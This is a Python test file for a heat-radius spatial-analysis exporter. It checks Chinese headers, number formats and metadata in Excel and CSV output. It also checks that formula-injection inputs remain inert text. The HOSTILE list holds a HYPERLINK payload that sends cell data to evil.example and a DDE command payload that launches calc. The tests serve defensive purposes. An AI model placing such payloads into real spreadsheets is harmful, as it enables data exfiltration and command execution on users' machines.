"""Excel for people and CSV for scripts: Chinese headers and formats, and no formula from data."""

import csv
import io as stdio

import openpyxl
import pandas as pd

from analyses import heat_radius as hr
from spatial import excel, export

HOSTILE = ['=HYPERLINK("http://evil.example/?"&B2,"点击查看")', "=cmd|' /C calc'!A0",
           "+1+2", "-2+3", "@SUM(1,2)"]


def tables():
    by_plant = pd.DataFrame({
        "plant_id": ["P1", "P2", "P3", "P4", "P5", "P6"],
        "plant_name": [*HOSTILE, "正常电厂"],
        "distance_km": [1.23456, 2.0, 3.5, 0.0004, 10.0, 29.9994],
        "capacity_th": [12.345, 20.0, 35.0, 4.0, 6.0, 10.0],
        "n_boilers_inside": [1, 2, 3, 4, 5, 6],
        "ratio": [0.673, 1.0, 0.0, 0.5, 0.25, 0.125],
        "delta": [-1.5, -2.0, 3.0, 4.0, 5.0, 6.0],
    })
    return {"by_plant": by_plant}


def test_workbook_for_people(tmp_path):
    export.write_tables(tables(), tmp_path, fields=hr.FIELDS,
                        about={"analysis": "heat-radius",
                               "created_utc": "2026-03-01T08:00:00+00:00",
                               "inputs": {"plants": {"path": "in/电厂.xlsx", "sha256": "ab" * 32}},
                               "params": {"radius_km": 30.0, "boiler_fuels": ["coal"]},
                               "rules": ["30 km 供热半径"]})
    wb = openpyxl.load_workbook(tmp_path / "tables.xlsx")
    assert wb.sheetnames == ["按电厂统计", "说明"]
    ws = wb["按电厂统计"]
    heads = [c.value for c in ws[1]]
    # Chinese labels from FIELDS with the unit; the ratio as a percentage
    assert heads[:5] == ["电厂编号", "电厂名称", "距最近电厂距离（km）", "额定蒸吨（t/h）",
                         "半径内目标锅炉数（台）"]
    assert heads[5] == "ratio（%）"
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:G7"
    col = {h: i + 1 for i, h in enumerate(heads)}
    assert ws.cell(2, col["距最近电厂距离（km）"]).number_format == "0.000"
    assert ws.cell(2, col["额定蒸吨（t/h）"]).number_format == "0.0"
    assert ws.cell(2, col["ratio（%）"]).number_format == "0.0%"
    assert ws.cell(2, col["ratio（%）"]).value == 0.673  # the value stays the ratio
    # widths fitted: the long hostile name's column is wider than the id column
    assert ws.column_dimensions["B"].width > ws.column_dimensions["A"].width >= 6
    # every hostile name is a string cell holding the text as typed, never a formula
    for i, text in enumerate(HOSTILE, start=2):
        cell = ws.cell(i, 2)
        assert cell.data_type == "s" and cell.value == text
    # negative numbers stay numbers
    assert ws.cell(2, col["delta"]).value == -1.5 and ws.cell(2, col["delta"]).data_type == "n"
    about = {r[0].value: r[1].value for r in wb["说明"].iter_rows(min_row=2)}
    assert about["分析"] == "heat-radius"
    assert about["运行时间（UTC）"] == "2026-03-01T08:00:00+00:00"
    assert about["输入 plants"] == "电厂.xlsx  SHA-256 " + "ab" * 32
    assert about["参数 boiler_fuels"] == "coal" and about["规则"] == "30 km 供热半径"
    # no formula anywhere in the workbook's XML
    import zipfile
    with zipfile.ZipFile(tmp_path / "tables.xlsx") as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml


def test_csv_keeps_machine_names_and_neutralizes_formulas(tmp_path):
    export.write_tables(tables(), tmp_path, fields=hr.FIELDS)
    text = (tmp_path / "by_plant.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(stdio.StringIO(text)))
    assert rows[0] == ["plant_id", "plant_name", "distance_km", "capacity_th",
                       "n_boilers_inside", "ratio", "delta"]
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + h for h in HOSTILE] + ["正常电厂"]  # OWASP: a leading apostrophe
    assert [r[6] for r in rows[1:]] == ["-1.5", "-2.0", "3.0", "4.0", "5.0", "6.0"]


def test_sheet_names_are_unique_and_legal():
    used = set()
    assert excel.sheet_name("rejected", used) == "未采用的记录"
    assert excel.sheet_name("a/b:c", used) == "a_b_c"
    assert excel.sheet_name("a/b:c", used) == "a_b_c_2"
    assert len(excel.sheet_name("x" * 40, used)) == 31


def test_hostile_names_through_a_run_stay_text(tmp_path, root):
    """A run's tables.xlsx holds no formula cell, its CSVs no live formula, from hostile input."""
    from analyses import runner
    from spatial import config

    rows = ["编号,单位名称,经度,纬度,蒸吨"]
    rows += [f'"{h.replace(chr(34), chr(34) * 2)}",{h[:5]}厂,,,1' for h in HOSTILE]  # rejected
    rows += ["GL1,甲厂,115.98,36.45,10"]
    src = tmp_path / "boilers.csv"
    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
    cfg = tmp_path / "c.toml"
    cfg.write_text(f'[inputs.plants]\npath = "{root / "data/raw/plants.csv"}"\n'
                   f'[inputs.boilers]\npath = "{src}"\ncolumns = {{ capacity_th = "蒸吨" }}\n',
                   encoding="utf-8")
    out = runner.execute("heat-radius", config.load(cfg), out=tmp_path / "out", offline=True)
    wb = openpyxl.load_workbook(out.layers_dir / "tables.xlsx")
    cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(HOSTILE) <= texts
    rejected = pd.read_csv(out.layers_dir / "rejected.csv", encoding="utf-8-sig", dtype=str)
    assert sorted(rejected["id"]) == sorted("'" + h for h in HOSTILE)


def test_text_tests_once_per_distinct_value_match_each_cell():
    """textcheck.text_mask (per distinct value) gives what a test of every cell gives."""
    import numpy as np

    from spatial import textcheck
    rng = np.random.default_rng(3)
    pool = ["=SUM(A1)", "+1", "-x", "@a", "\tb", "ok", "临清", "a\x07b", "", None, np.nan, 1,
            -2.5, True, ["l"]]
    values = [pool[i] for i in rng.integers(0, len(pool) - 1, 2000)]  # hashable ones
    for s in (pd.Series(values, dtype=object), pd.Series(values + [["l"]], dtype=object),
              pd.Series([v for v in values if isinstance(v, str) or v is None], dtype="str")):
        brute = np.array([isinstance(v, str) and v.startswith(excel.FORMULA_START)
                          for v in s.tolist()])
        assert (textcheck.text_mask(s, lambda v: v.startswith(excel.FORMULA_START))
                == brute).all()
        ctl = np.array([isinstance(v, str) and any(ord(c) < 32 and c not in "\t\n\r"
                                                   for c in v) for v in s.tolist()])
        assert (textcheck.control_mask(s) == ctl).all()
